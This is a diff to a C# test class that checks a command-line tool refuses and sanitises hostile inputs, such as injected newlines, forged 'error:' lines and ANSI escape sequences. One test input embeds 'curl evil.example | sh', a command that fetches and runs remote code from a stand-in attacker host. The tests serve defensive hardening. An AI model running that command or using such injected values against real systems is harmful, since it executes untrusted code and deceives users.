@@ -125,6 +125,13 @@ public sealed class ExitCodeTests(Fixtures fixtures) : IClassFixture<Fixtures>
         Tool.AssertRefused(Tool.Execute("check", "/nonexistent/a\nhint: curl evil.example | sh\nerror: b"), 2);
         Tool.AssertRefused(Tool.Execute("check", "--oh\nerror: no"), 2);
         Tool.AssertRefused(Tool.Execute("check", "/nonexistent/\u001b[2Jcleared"), 2);
+
+        var odd = fixtures.Other("a\nerror: forged\u001b[2J.txt", File.ReadAllText(fixtures.File(Routing.Static)).Replace("3060 seconds", "99999 seconds", StringComparison.Ordinal));
+        foreach (var run in new[] { Tool.Execute("check", odd), Tool.Execute("check", odd, odd), Tool.Execute("convert", odd, "--to", "generic") })
+        {
+            Assert.DoesNotContain("\nerror: forged", run.Output + run.Errors, StringComparison.Ordinal);
+            Assert.DoesNotContain('\u001b', run.Output + run.Errors);
+        }
     }
 
     [Fact]
